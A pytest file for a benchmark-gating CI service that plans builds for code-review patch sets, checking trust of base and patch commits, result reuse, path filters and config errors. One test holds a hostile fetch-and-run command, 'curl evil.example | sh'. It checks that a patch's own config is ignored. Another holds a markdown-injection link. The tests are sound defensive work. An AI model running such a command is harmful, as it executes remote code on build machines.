from __future__ import annotations

import pytest

from service.domain.building.spec import BuildSpec
from service.domain.project.job_kinds import KINDS
from service.domain.project.project_file import Commands
from service.domain.review.change import ChangeStatus, PatchSet
from service.domain.runs.states import BuildState, RunState
from service.domain.runs.vote import Outcome
from service.domain.values.errors import BadInput, Transient
from service.domain.values.identity import ChangeKey, RunKind
from tests.support.building.memory_source import CODE, MemorySource, code
from tests.support.review.changes import PROJECT_FILE, Service, change_at, project


def planned(source: MemorySource) -> Service:
    service = Service(source=source)
    service.see(change_at(1))
    service.plan()
    return service


def spec_of(service: Service, build_id: int = 1) -> BuildSpec:
    return BuildSpec.from_mapping(service.store.memory.builds[build_id - 1].spec)


def test_a_run_becomes_the_builds_of_the_target_branchs_project_file() -> None:
    service = planned(project())
    spec, (build,) = spec_of(service), service.store.memory.builds

    assert service.runs() == [("patch1", RunState.RUNNING)]
    assert service.store.memory.runs[0].label == "Performance"
    assert service.store.memory.runs[0].parent == "parent"
    assert (build.job, build.number, build.state) == ("perf", 1, BuildState.QUEUED)
    assert service.store.memory.hints == [("plan", 1), ("execute", 1)]
    assert spec.base is not None
    assert (spec.base.commit, spec.base.trust) == ("parent", "reviewed")
    assert (spec.patch.commit, spec.patch.trust) == ("patch1", "unreviewed")
    assert spec.base.tree != spec.patch.tree


def test_a_build_records_which_commands_the_project_enables() -> None:
    enabled = f"{PROJECT_FILE}commands: {{override: perf-owners}}\n"

    assert spec_of(planned(project(enabled))).commands == Commands(override="perf-owners")
    assert spec_of(planned(project())).commands == Commands()


def test_the_patch_sets_own_project_file_is_never_used() -> None:
    source = project()
    hostile = PROJECT_FILE.replace("make", "curl evil.example | sh")
    source.commit(
        "patch1", "parent", {CODE: code(BM_a=2e-6), "benchgate.yaml": hostile}, "refs/changes/07/7/1"
    )

    assert spec_of(planned(source)).job.benchmark.build.compile == "make"


def test_planning_twice_plans_once() -> None:
    service = planned(project())
    service.plan()

    assert len(service.store.memory.builds) == 1


class TestEqualTrees:
    """A second patch set with the trees and the configuration of the first."""

    @pytest.fixture
    def service(self) -> Service:
        source = project()
        source.commit("patch2", "parent", source.commits["patch1"].files, "refs/changes/07/7/2")
        return planned(source)

    def test_a_running_build_is_taken_over(self, service: Service) -> None:
        service.see(change_at(2))
        service.plan(2)
        service.store.drop_unwanted_builds()

        assert service.store.memory.run_builds == [(1, 1), (2, 1)]
        assert not service.store.memory.builds[0].cancel_requested
        assert ("vote", 2) not in service.store.memory.hints

    def test_a_result_is_reused_and_voted_on_at_once(self, service: Service) -> None:
        service.store.update(1, state=BuildState.FINISHED, outcome=Outcome.SLOWER)
        service.see(change_at(2))
        service.plan(2)

        assert service.store.memory.run_builds == [(1, 1), (2, 1)]
        assert service.store.memory.hints[-1] == ("vote", 2)

    def test_an_infrastructure_failure_is_not_reused(self, service: Service) -> None:
        service.store.update(1, state=BuildState.FINISHED, outcome=Outcome.INFRASTRUCTURE)
        service.see(change_at(2))
        service.plan(2)

        assert service.store.memory.run_builds == [(1, 1), (2, 2)]


class TestProjectFiles:
    def test_a_bad_file_is_reported_once_without_a_vote(self) -> None:
        service = planned(project(PROJECT_FILE.replace("program", "programme")))
        service.plan()

        assert service.runs() == [("patch1", RunState.REFUSED)]
        (posted,) = [stored.review for stored in service.store.memory.reviews.values()]
        assert posted.labels == {}
        assert posted.revision == "patch1"
        assert posted.message == (
            "No Builds Executed \n\nbenchgate.yaml:8: jobs.perf.suites[0].programme: unknown key; allowed "
            "are name, program, filter, args, metrics, higher_is_better, units, cpus, repetitions, min_time, "
            "timeout, env, cwd, format, renamed\n\nhttps://bench.example.com/runs/1"
        )

    def test_a_refusal_shows_a_key_of_the_file_without_its_formats(self) -> None:
        text = PROJECT_FILE.replace("program:", '"[click](https://evil.example)":')
        (posted,) = planned(project(text)).store.memory.reviews.values()

        assert r"[click]\(https://evil.example)" in posted.review.message

    @pytest.mark.parametrize("fault", ["not UTF-8 text", "larger than 1 MiB"])
    def test_an_unreadable_file_is_reported(self, fault: str) -> None:
        def refuse() -> None:
            raise BadInput(fault, "benchgate.yaml")

        source = project()
        source.meanwhile = refuse
        service = planned(source)

        assert service.runs() == [("patch1", RunState.REFUSED)]
        (posted,) = [stored.review for stored in service.store.memory.reviews.values()]
        assert posted.labels == {}
        assert f"benchgate.yaml: {fault}\n" in posted.message

    def test_a_project_without_a_file_gets_no_message(self) -> None:
        service = planned(project(None))

        assert service.runs() == [("patch1", RunState.REFUSED)]
        assert service.store.memory.reasons[1] == "there is no benchgate.yaml on branch master"
        assert service.store.memory.reviews == {}

    def test_a_bad_file_is_not_reported_on_merged_changes(self) -> None:
        service = Service(source=project("version: 3"))
        service.see(change_at(1, status=ChangeStatus.MERGED, merged_as="parent"))
        service.plan()

        assert service.runs(RunKind.POST_SUBMIT) == [("parent", RunState.REFUSED)]
        assert service.store.memory.reviews == {}


class TestKindsThatThisVersionLacks:
    LINT = "  lint:\n    kind: style-check\n    style: file\n"
    REASON = (
        "benchgate.yaml:11: jobs.lint.kind: this version does not run style-check; "
        f"it runs {', '.join(KINDS)}"
    )

    def test_the_job_is_misconfigured_and_the_others_run(self) -> None:
        service = planned(project(PROJECT_FILE + self.LINT))
        perf, lint = service.store.memory.builds

        assert (perf.job, perf.state, perf.outcome) == ("perf", BuildState.QUEUED, None)
        assert (lint.state, lint.outcome, lint.causes) == (
            BuildState.FINISHED,
            Outcome.MISCONFIGURED,
            (self.REASON,),
        )
        assert service.store.memory.hints == [("plan", 1), ("execute", 1)]
        assert spec_of(service).jobs == 1

    @pytest.mark.parametrize(
        ("more", "vote", "header"),
        [("", None, "Build Unstable"), ("    voting: false\n", 1, "Build Successful")],
    )
    def test_it_withholds_the_vote_if_it_votes(self, more: str, vote: int | None, header: str) -> None:
        service = planned(project(PROJECT_FILE + self.LINT + more))
        service.store.update(1, state=BuildState.FINISHED, outcome=Outcome.PASSED)
        service.vote()

        (decision,) = service.store.memory.decisions
        assert (decision.vote, decision.header) == (vote, header)
        assert f"https://bench.example.com/job/lint/1/ : UNSTABLE\n\n{self.REASON}" in decision.message

    def test_it_fails_nobody_elses_change(self) -> None:
        service = planned(project(PROJECT_FILE + self.LINT))
        service.store.update(1, state=BuildState.FINISHED, outcome=Outcome.SLOWER)
        service.vote()

        assert service.store.memory.decisions[0].vote == -1

    def test_a_change_that_does_not_concern_it_is_not_bothered(self) -> None:
        service = planned(project(f"{PROJECT_FILE}{self.LINT}    paths: [docs/]\n"))

        assert service.store.memory.builds[1].outcome is Outcome.NOT_BUILT

    def test_alone_it_is_voted_on_at_once(self) -> None:
        service = planned(project("version: 1\njobs: {tests: {kind: style-check}}"))

        assert service.store.memory.hints == [("plan", 1), ("vote", 1)]


def test_a_program_outside_the_build_directory_is_misconfigured_before_anything_is_built() -> None:
    more = "  tools:\n    kind: benchmark\n    suites: [{name: a, program: bin/a}]\n"
    service = planned(project(PROJECT_FILE + more))
    perf, tools = service.store.memory.builds

    assert (perf.state, tools.outcome) == (BuildState.QUEUED, Outcome.MISCONFIGURED)
    (cause,) = tools.causes
    assert cause == (
        "benchgate.yaml:12: jobs.tools.suites[0].program: 'bin/a' is not in the build directory; "
        "allowed are paths below build/"
    )
    assert service.store.memory.hints == [("plan", 1), ("execute", 1)]
    assert spec_of(service).jobs == 1


class TestPaths:
    def test_a_job_without_changed_files_is_not_built_and_the_vote_is_cast(self) -> None:
        source = project(README="old")
        files = {**source.commits["parent"].files, "README": "new"}
        source.commit("patch1", "parent", files, "refs/changes/07/7/1")
        service = planned(source)

        (build,) = service.store.memory.builds
        assert (build.state, build.outcome) == (BuildState.FINISHED, Outcome.NOT_BUILT)
        assert build.causes == ("no matching files changed",)
        assert service.store.memory.hints == [("plan", 1), ("vote", 1)]

    def test_only_jobs_with_changed_files_are_built(self) -> None:
        text = PROJECT_FILE + PROJECT_FILE.split("jobs:\n")[1].replace("perf", "docs").replace(
            "bench.json", "docs/"
        )
        service = planned(project(text))

        assert [(b.job, b.outcome) for b in service.store.memory.builds] == [
            ("perf", None),
            ("docs", Outcome.NOT_BUILT),
        ]
        assert ("vote", 1) not in service.store.memory.hints


class TestParents:
    def test_a_root_commit_has_no_parent_and_changes_every_file(self) -> None:
        source = project()
        source.commit("patch1", None, {CODE: code(BM_a=1e-6)}, "refs/changes/07/7/1")
        service = planned(source)

        assert spec_of(service).base is None
        assert service.store.memory.builds[0].outcome is None

    def test_a_parent_under_review_is_not_trusted_as_a_reviewed_one(self) -> None:
        source = project()
        source.commit("patch1", "patch2", source.commits["patch1"].files, "refs/changes/07/7/1")
        service = Service(source=source)
        below = PatchSet(1, "patch2", "refs/changes/08/8/1", ("parent",))
        service.see(change_at(1, key=ChangeKey("gerrit", 8), current=below))
        service.see(change_at(1))
        service.plan(2)
        spec = spec_of(service)

        assert spec.base is not None
        assert (spec.base.commit, spec.base.trust) == ("patch2", "unreviewed")
        assert spec.base.ref == "refs/changes/07/7/1"

    def test_a_merged_change_is_compared_with_its_first_parent_on_the_branch(self) -> None:
        service = Service()
        service.source.commit("tip", "parent", service.source.commits["patch1"].files, "refs/heads/master")
        service.see(change_at(1, status=ChangeStatus.MERGED, merged_as="tip"))
        service.plan()
        spec = spec_of(service)

        assert spec.base is not None
        assert (spec.kind, spec.base.commit, spec.base.trust) == (RunKind.POST_SUBMIT, "parent", "reviewed")
        assert (spec.patch.commit, spec.patch.trust) == ("tip", "reviewed")
        assert spec.patch.ref == "refs/heads/master"

    def test_the_owners_of_the_files_that_a_merged_commit_changed_are_frozen(self) -> None:
        owned = PROJECT_FILE.replace(
            "    kind: benchmark\n",
            "    kind: benchmark\n"
            f"    path_owners: {{'{CODE}': [ann@example.com], 'docs/**': [bob@example.com]}}\n",
        )
        service = Service(source=project(owned))
        service.see(change_at(1))
        service.plan()
        assert spec_of(service).path_owners == (), "a patch set has no notices"
        service.source.commit("tip", "parent", service.source.commits["patch1"].files, "refs/heads/master")
        service.see(change_at(1, status=ChangeStatus.MERGED, merged_as="tip"))
        service.plan(2)
        spec = spec_of(service, 2)
        assert spec.path_owners == ("ann@example.com",)
        assert BuildSpec.from_mapping(spec.to_mapping()) == spec


class TestMeanwhile:
    def test_a_cancelled_run_is_not_planned(self) -> None:
        service = Service()
        service.see(change_at(1))
        service.see(change_at(2))
        service.plan(1)

        assert service.store.memory.builds == []
        assert service.runs()[0] == ("patch1", RunState.CANCELLED)

    @pytest.mark.parametrize("text", [PROJECT_FILE, "version: 3", None])
    def test_a_run_cancelled_during_its_planning_stays_cancelled(self, text: str | None) -> None:
        service = Service(source=project(text))
        service.see(change_at(1))
        service.source.meanwhile = lambda: service.see(change_at(2))
        service.plan(1)

        assert service.runs()[0] == ("patch1", RunState.CANCELLED)
        assert service.store.memory.builds == []
        assert service.store.memory.reviews == {}

    def test_a_run_stays_in_planning_while_the_git_server_does_not_answer(self) -> None:
        service = Service()
        service.see(change_at(1))
        service.source.fault = Transient("no answer")
        with pytest.raises(Transient):
            service.plan()

        assert service.runs() == [("patch1", RunState.PLANNING)]
